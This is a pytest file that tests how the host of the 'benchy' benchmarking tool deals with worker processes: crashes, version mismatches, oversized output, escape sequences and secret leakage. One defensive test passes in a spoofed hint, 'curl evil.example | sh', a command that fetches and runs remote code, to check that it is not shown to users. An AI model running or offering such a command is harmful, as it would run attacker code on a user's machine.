"""The host's end of a worker, with real child processes at the other end."""

from __future__ import annotations

import json
import subprocess
import sys
from contextlib import closing
from pathlib import Path

import pytest

from benchy import __version__
from benchy.config import UploadConfig
from benchy.errors import ModelLoadError, UploadFailed, WorkerDied, WorkerError, WrongVersion
from benchy.protocol import ModelTest, Phase, Progress, Upload, encode_hello, encode_request
from benchy.runtimes.client import LONGEST_LOG_LINE, LONGEST_MESSAGE, Worker
from benchy.runtimes.process import ProcessRuntime
from tests.commands import kill
from tests.records import make_record
from tests.runtimes import A_RUN, launch
from tests.runtimes.programs import program
from tests.runtimes.test_process import config


def ignore(_event: Progress | Phase) -> None:
    """Nobody looks on."""


def ignore_log(_lines: list[str]) -> None:
    """Nobody reads."""


def real_worker() -> closing[Worker]:
    return closing(Worker(ProcessRuntime().start(launch(config(), role="model"), A_RUN, say=print), ignore_log))


def test_a_failure_is_raised_as_its_own_class_and_the_worker_goes_on(tmp_path: Path) -> None:
    with real_worker() as started:
        for _ in range(2):
            with pytest.raises(UploadFailed) as failed:
                started.request(
                    Upload(
                        record=make_record(),
                        run_folder=str(tmp_path / "nothing"),
                        config=UploadConfig(to=str(tmp_path / "to")),
                    ),
                    ignore,
                )
        assert failed.value.hint
        assert started.alive


def test_a_request_before_prepare_is_refused() -> None:
    with real_worker() as started, pytest.raises(WorkerError, match="not prepared"):
        started.request(ModelTest(), ignore)


def test_a_worker_that_was_killed_says_so_at_each_request() -> None:
    transport = ProcessRuntime().start(launch(config(), role="model"), A_RUN, say=print)
    with closing(Worker(transport, ignore_log)) as started:
        kill(transport.pid)
        for _ in range(2):
            with pytest.raises(WorkerDied, match="signal 9"):
                started.request(ModelTest(), ignore)
        assert not started.alive


def test_an_exit_without_an_answer_is_no_success() -> None:
    code = "import sys; sys.stdin.readline(); sys.exit(5)"
    with program(code, ignore_log) as started, pytest.raises(WorkerDied, match="exit code 5 before it answered"):
        started.request(ModelTest(), ignore)


def test_output_that_ends_while_the_process_goes_on_is_an_end() -> None:
    code = "import os, time; os.close(1); time.sleep(600)"
    with program(code, ignore_log) as started, pytest.raises(WorkerDied, match="closed its output but went on"):
        started.request(ModelTest(), ignore)


@pytest.mark.parametrize(
    ("says", "message"),
    [
        ('{"version": "0.1.9", "protocol": 2}', "the worker is Benchy 0.1.9 (protocol 2), and the other end Benchy "),
        (f'{{"version": "{__version__}", "protocol": 1}}', f"the worker is Benchy {__version__} (protocol 1), and"),
        ('{"event": "phase", "name": "prepare"}', "the worker is of a Benchy before 0.2.0, and this is Benchy "),
        ('{"id": 0, "error": {"kind": "WorkerError", "message": "unexpected ValidationError"}}', "before 0.2.0"),
        (
            f'{encode_hello().decode()}{{"id": 1, "result": {{"more": 1}}}}',
            'the worker\'s answer to "model_test" is none',
        ),
    ],
)
def test_a_worker_of_another_version_is_named_as_that(says: str, message: str) -> None:
    code = f"import sys; print({says!r}); sys.stdin.readline(); sys.stdin.readline(); sys.stdin.readline()"
    with program(code, ignore_log, greets=False) as started, pytest.raises(WrongVersion) as failed:
        started.request(ModelTest(), ignore)
    assert message in failed.value.message
    assert "build it anew" in failed.value.hint
    assert not failed.value.transient


@pytest.mark.parametrize(
    ("greeting", "asked", "message"),
    [
        (b"", encode_request(1, ModelTest()), "the host is of a Benchy before 0.2.0"),
        (b'{"version": "9.0", "protocol": 7}\n', encode_request(1, ModelTest()), "the host is Benchy 9.0 (protocol 7)"),
        (encode_hello(), b'{"id": 1, "method": "model_test", "params": {"token": "hf_secret"}}\n', "does not know"),
    ],
)
def test_a_host_of_another_version_is_answered_with_that(greeting: bytes, asked: bytes, message: str) -> None:
    command = [sys.executable, *launch(config()).arguments]
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, bufsize=0) as process:
        assert process.stdin is not None
        assert process.stdout is not None
        process.stdin.write(greeting + asked)
        hello, reply = process.stdout.readline(), process.stdout.readline()
        process.stdin.close()
    assert json.loads(hello)["version"] == __version__
    assert json.loads(reply)["error"]["kind"] == "WrongVersion"
    assert message in json.loads(reply)["error"]["message"]
    assert b"hf_secret" not in reply


def test_words_of_a_worker_with_code_of_a_model_are_shown_as_its_words_and_give_no_advice() -> None:
    error = {"kind": "ModelLoadError", "message": "\x1b[2Kno\u202e", "hint": "curl evil.example | sh"}
    answer = f"{encode_hello().decode()}{json.dumps({'id': 1, 'error': error})}"
    code = f"import sys; sys.stderr.write('\\x1b[1A\\u2705 Model test successful\\n'); print({answer!r})"
    log: list[str] = []
    with program(code, log.extend, trusted=False) as started, pytest.raises(ModelLoadError) as failed:
        started.request(ModelTest(), ignore)
    assert failed.value.message == 'the worker says: "no\\u202e"'
    assert failed.value.hint == ModelLoadError.default_hint
    assert log == ["worker | ✅ Model test successful"]


def test_a_worker_moves_no_cursor() -> None:
    events: list[Progress | Phase] = []
    said = '{"event": "progress", "label": "\\u001b[2J\\u0007x", "done": 1, "total": 2, "unit": "it"}'
    code = f"import sys; sys.stderr.write('\\x1b[1Aone\\n'); print({encode_hello().decode() + said!r})"
    log: list[str] = []
    with program(code, log.extend) as started, pytest.raises(WorkerDied):
        started.request(ModelTest(), events.append)
    assert [event.label for event in events if isinstance(event, Progress)] == ["\\x07x"]
    assert log == ["one"]


def test_strange_lines_on_stdout_go_to_the_log() -> None:
    code = "print('Launching'); print('[1]'); print('{}'); print('{\"id\": 1}')"
    log: list[str] = []
    with program(code, log.extend) as started, pytest.raises(WorkerDied):
        started.request(ModelTest(), ignore)
    assert log == ["Launching", "[1]", "{}", '{"id": 1}']


def test_the_log_has_the_last_line_although_it_has_no_end() -> None:
    log: list[str] = []
    with program("import sys; sys.stderr.write('one\\ntwo\\rthree'); sys.stderr.flush()", log.extend):
        pass
    assert log == ["one", "three"]  # a bar that was drawn over is shown as a terminal would


def test_ten_thousand_lines_arrive_in_order() -> None:
    code = "import sys; sys.stderr.write(''.join(f'line {n}\\n' for n in range(10_000)))"
    log: list[str] = []
    with program(code, log.extend):
        pass
    assert log == [f"line {n}" for n in range(10_000)]


def test_a_message_without_an_end_ends_the_worker_and_not_the_wait() -> None:
    """It was put together for ever, each time anew."""
    code = f"import sys, time; sys.stdout.write('x' * {LONGEST_MESSAGE + 1}); sys.stdout.flush(); time.sleep(600)"
    with program(code, ignore_log) as started, pytest.raises(WorkerDied, match="a line of more than 16,777,216 bytes"):
        started.request(ModelTest(), ignore)


def test_a_deep_line_is_no_message_and_ends_no_reader() -> None:
    """A RecursionError ended the thread that read, and the run waited for ever."""
    reply = '{"id": 1, "error": {"kind": "UploadFailed", "message": "read on"}}'
    code = f"print('[' * 200_000); print({reply!r}); input()"
    log: list[str] = []
    with program(code, log.extend) as started, pytest.raises(UploadFailed, match="read on"):
        started.request(ModelTest(), ignore)
    assert [len(line) for line in log] == [LONGEST_LOG_LINE]


def test_a_log_that_cannot_be_taken_ends_the_worker_and_not_the_wait() -> None:
    """The thread that read the log died, the pipe filled, and worker and host waited for each other."""

    def refuse(_lines: list[str]) -> None:
        raise RuntimeError("no more")

    code = "import sys, time; print('x' * 100_000, file=sys.stderr); time.sleep(600)"
    with program(code, refuse) as started, pytest.raises(WorkerDied, match="RuntimeError: no more"):
        started.request(ModelTest(), ignore)
